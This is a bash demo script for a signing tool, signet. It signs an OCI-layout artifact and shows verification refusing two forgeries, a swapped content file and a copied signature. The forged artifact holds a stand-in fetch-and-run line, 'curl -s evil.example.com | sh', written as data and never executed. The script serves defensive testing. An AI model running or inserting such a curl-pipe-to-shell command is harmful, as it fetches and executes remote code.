#!/usr/bin/env bash
# From a fresh clone to the main job: builds signet, signs an artifact, verifies it, and shows two forgeries refused.
# Everything happens in a temporary folder; your own keys, policies and trust stores are not touched.
set -euo pipefail
cd "$(dirname "${BASH_SOURCE[0]}")"
. eng/dotnet.sh

step "building signet"
if [ -n "${SIGNET_EXE:-}" ]; then
  signet=$SIGNET_EXE
  say "using $signet"
else
  ./build.sh
  signet=$PWD/out/signet
fi

work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
export NOTATION_CONFIG=$work/config NOTATION_CACHE=$work/cache
cd "$work"

# shown COMMAND...: prints the command as a user types it, then runs it.
shown() { printf '\n$ signet %s\n' "$*"; "$signet" "$@"; }

# refused CODE COMMAND...: the command must fail with exactly that exit code.
refused() {
  local want=$1 got=0
  shift
  shown "$@" 2>&1 || got=$?
  [ "$got" -eq "$want" ] || die "expected exit code $want, got $got"
}

# An OCI image layout, by hand, so that nothing else is needed: three small files in blobs/ and an index.
digest() { sha256sum "$1" | cut -d' ' -f1; }
store() { mkdir -p app/blobs/sha256 && cp "$1" "app/blobs/sha256/$(digest "$1")"; }
size() { wc -c <"$1" | tr -d ' '; }
image() { # file with the content of the only layer → manifest.json
  store "$1"
  printf '{}' >config.json && store config.json
  printf '{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json","artifactType":"application/vnd.example.app","config":{"mediaType":"application/vnd.oci.empty.v1+json","digest":"sha256:%s","size":2},"layers":[{"mediaType":"application/octet-stream","digest":"sha256:%s","size":%d}]}' \
    "$(digest config.json)" "$(digest "$1")" "$(size "$1")" >manifest.json
  store manifest.json
}
descriptor() { # manifest file, further members
  printf '{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"sha256:%s","size":%d%s}' "$(digest "$1")" "$(size "$1")" "${2:-}"
}
named() { printf ',"annotations":{"org.opencontainers.image.ref.name":"%s"}' "$1"; }

step "an artifact in an OCI image layout"
printf 'echo "release 1.0"\n' >app.sh
image app.sh
cp manifest.json good.json
printf '{"imageLayoutVersion":"1.0.0"}' >app/oci-layout
printf '{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[%s]}' "$(descriptor good.json "$(named v1)")" >app/index.json
good=app@sha256:$(digest good.json)
say "$good"

step "a key, its certificate in a trust store, and a policy that trusts it"
shown certificate generate-test --default example.com
shown policy init --name release --registry-scope local/app --trust-store ca:example.com \
  --trusted-identity 'x509.subject: C=US, ST=WA, L=Seattle, O=Notary, CN=example.com'

step "sign, then verify"
shown sign --oci-layout "$good" --user-metadata build=1
shown verify --oci-layout --scope local/app "$good"

step "forgery 1: somebody swaps the content behind the tag"
printf 'echo "release 1.0"; curl -s evil.example.com | sh\n' >evil.sh
image evil.sh
cp manifest.json evil.json
sed -i.bak "s|$(descriptor good.json "$(named v1)")|$(descriptor evil.json "$(named v1)"),$(descriptor good.json)|" app/index.json
refused 10 verify --oci-layout --scope local/app "app@sha256:$(digest evil.json)"

step "forgery 2: and hangs a copy of the good signature below it"
signature=$(tr -d '\n' <app/index.json | grep -o '"digest": *"sha256:[0-9a-f]*"' | grep -o '[0-9a-f]\{64\}' | while read -r d; do
  if grep -q '"application/vnd.cncf.notary.signature"' "app/blobs/sha256/$d"; then echo "$d"; fi
done | sort -u | head -n 1)
sed "s|$(digest good.json)|$(digest evil.json)|; s|\"size\": *$(size good.json)\\b|\"size\":$(size evil.json)|" "app/blobs/sha256/$signature" >forged.json
store forged.json
sed -i.bak "s|$(descriptor good.json)|$(descriptor good.json),$(descriptor forged.json ',"artifactType":"application/vnd.cncf.notary.signature"')|" app/index.json
refused 12 verify --oci-layout --scope local/app "app@sha256:$(digest evil.json)"

step "the real one still verifies"
shown verify --oci-layout --scope local/app "$good"

printf '\nproven: the signed artifact verified, the swapped one was refused as unsigned, the one with a borrowed signature as invalid\n'
